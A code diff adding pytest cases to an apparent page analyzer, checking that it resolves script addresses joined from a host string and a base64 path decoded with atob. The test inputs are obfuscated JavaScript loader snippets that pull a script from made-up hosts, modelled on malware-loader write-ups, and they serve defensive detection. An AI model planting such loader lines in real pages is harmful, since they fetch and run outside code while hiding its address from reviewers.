@@ -592,6 +592,37 @@ def test_a_url_a_literal_only_names_is_loaded_where_the_decoder_shows_it(script:
     assert ("https://cdn.evil.example/p", T.SCRIPT) in loaded
 
 
+_PATH_B64 = base64.b64encode(b"/js/a.js").decode()  # "L2pzL2EuanM="
+
+
+@pytest.mark.parametrize("script", [
+    # a loader hiding its path in base64, joined to a literal host or to a variable
+    # holding it (made-up host; the form of Sucuri's and Unit42's loader write-ups)
+    f"s.src='https://cdn.statsline.test'+atob('{_PATH_B64}');",
+    f'var host = "https://cdn.statsline.test"; s.src = host + atob("{_PATH_B64}");',
+    f"var h='https://cdn.statsline.test';s.src=h+window.atob('{_PATH_B64}')+'?v='+Date.now();",
+    "var h='https://cdn.statsline.test';s.src=h+'/js/a.js';",  # no atob: the variable read
+])
+def test_a_src_joined_from_a_constant_atob_piece_or_a_variable_is_a_request(script: str) -> None:
+    """`s.src = host + atob("L2pzL2EuanM=")` loads https://cdn.statsline.test/js/a.js: the
+    constant is decoded (nothing runs) and the variable's literal joined to it; the
+    variable's literal alone is no request."""
+    code = f"<script>var s=document.createElement('script');{script}" \
+           "document.head.appendChild(s);</script>"
+    assert [(url.split("?")[0], kind) for url, kind, _ in found(code)] == [
+        ("https://cdn.statsline.test/js/a.js", T.SCRIPT)]
+
+
+@pytest.mark.parametrize("script", [
+    f"x = atob('{_PATH_B64}');",  # decoded, joined to nothing: no address
+    "var h='https://cdn.statsline.test'; if (h == location.origin) {}",  # compared, not loaded
+    "var h='https://cdn.statsline.test'; s.src = h2 + '/js/a.js';",  # another name
+])
+def test_a_piece_joined_to_no_src_is_no_request(script: str) -> None:
+    assert [u for u, _, _ in found(f"<script>{script}</script>")
+            if u.endswith("/js/a.js")] == []
+
+
 def test_an_address_in_markup_a_script_writes_is_read_as_markup() -> None:
     """`&amp;` in the markup a script writes (an app state's article HTML) is the `&` a
     browser requests; in a call's literal it is what the call sends."""
